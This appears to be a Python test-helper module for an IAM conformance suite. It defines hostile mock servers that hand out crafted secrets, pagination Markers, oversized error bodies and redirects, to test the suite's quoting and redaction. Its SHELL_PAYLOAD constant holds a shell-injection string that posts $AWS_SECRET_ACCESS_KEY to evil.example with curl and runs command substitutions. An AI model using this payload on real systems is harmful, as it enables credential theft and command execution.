"""Hostile variants of the reference IAM: conformant enough to be set up on, malicious in what they hand out (the
secrets they issue, the Markers they give, the error bodies they send, the way they answer cleanup)."""

from __future__ import annotations

import dataclasses
import io

from werkzeug.wrappers import Request, Response

from conformance.reference import IamError, ReferenceApp
from conformance.reference.render import leaf

# What a Marker may hold to break a replay line that is quoted first and redacted after: a quote closing early,
# command substitutions, backticks, a newline, a variable expansion, an Authorization header.
SHELL_PAYLOAD = (
    'x\'; curl -d "$AWS_SECRET_ACCESS_KEY" https://evil.example/ #'
    " $(touch /tmp/pwned-by-marker) `touch /tmp/pwned-by-backtick`\n"
    "echo ran\" $HOME 'Authorization: AWS4-HMAC-SHA256 Credential=x"
)


def quoting_pieces(marker: str) -> list[str]:
    """Secrets a target can hand out to make redaction cut into the shell quoting around `marker`: pieces of the
    quoted line that straddle a quote shlex puts in, each at least 8 characters long (shorter secrets are not
    masked)."""
    import shlex

    quoted = shlex.quote(f"Marker={marker}")
    pieces = []
    for at in range(len(quoted)):
        if quoted[at] == "'":
            for start, end in ((at - 6, at + 2), (at - 2, at + 6), (at, at + 8), (at - 8, at + 1), (at - 1, at + 16)):
                piece = quoted[max(start, 0) : end]
                if len(piece) >= 8 and piece not in pieces:
                    pieces.append(piece)
    return pieces


class IssuesSecrets(ReferenceApp):
    """Issues access keys whose secret keys are the given strings, one after the other (then the last again)."""

    def __init__(self, secrets: list[str], **kwargs: object) -> None:
        super().__init__(**kwargs)  # type: ignore[arg-type]
        self.secrets = list(secrets)
        self.issued: list[str] = []

    def action_CreateAccessKey(self, caller, p):
        owner = self.owner(caller, p)
        key = self.store.create_access_key(owner)
        secret = self.secrets[min(len(self.issued), len(self.secrets) - 1)]
        with self.store.lock:
            key = dataclasses.replace(key, secret=secret)
            self.store.access_keys[key.access_key_id] = key
        self.issued.append(secret)
        return [self.renderer.access_key(key, tag="AccessKey", with_secret=True)]


class GivesMarkers(IssuesSecrets):
    """Every listing of certificates says more follow, with `marker`; a request carrying it is refused with an
    error that repeats it (a deviation: the reports keep its request, and so its replay line)."""

    def __init__(self, marker: str, secrets: list[str] | None = None, **kwargs: object) -> None:
        super().__init__(secrets or ["ordinary-secret-key-of-40-characters-xx"], **kwargs)
        self.marker = marker

    def action_ListSigningCertificates(self, caller, p):
        if "Marker" in p:
            raise IamError(500, "ServiceFailure", f"cannot continue from {p['Marker'][:200]}")
        nodes = super().action_ListSigningCertificates(caller, p)
        nodes = [n for n in nodes if n.tag not in ("IsTruncated", "Marker")]
        return [*nodes, leaf("IsTruncated", "true"), leaf("Marker", self.marker)]


class UnknownElementsInErrors(ReferenceApp):
    """Every error body carries `count` distinct elements no schema names (140,000 of them: just under 1 MiB), but
    the preflight's: a body the suite does not parse would be no IAM answer at all (test_not_a_run.py), and these
    tests are about judging such bodies in a run."""

    def __init__(self, count: int, **kwargs: object) -> None:
        super().__init__(**kwargs)  # type: ignore[arg-type]
        self.count = count

    def render_error(self, error: IamError, request_id: str) -> bytes:
        body = self.renderer.error(error, request_id)
        if "-preflight-absent" in error.message:
            return body
        extra = "".join(f"<{_letters(n)}/>" for n in range(self.count)).encode()
        return body.replace(b"<Code>", extra + b"<Code>", 1)


def _letters(n: int, width: int = 4) -> str:
    """A distinct name of `width` letters for each n below 26**width."""
    return "".join(chr(ord("a") + n // 26**i % 26) for i in range(width))


class RedirectsCleanup(ReferenceApp):
    """Answers every deletion and every listing of users with a redirect (to itself, and on)."""

    def __init__(self, status: int = 302, **kwargs: object) -> None:
        super().__init__(**kwargs)  # type: ignore[arg-type]
        self.status = status
        self.redirected = 0

    def __call__(self, environ, start_response):
        body = Request(environ).get_data()
        environ["wsgi.input"] = io.BytesIO(body)  # read again by the reference, when it answers
        params = self.read_params(Request(environ), body)
        if params.get("Action", "").startswith("Delete") or params.get("Action") == "ListUsers":
            self.redirected += 1
            response = Response(b"", status=self.status, headers={"Location": f"/elsewhere/{self.redirected}"})
            return response(environ, start_response)
        return super().__call__(environ, start_response)
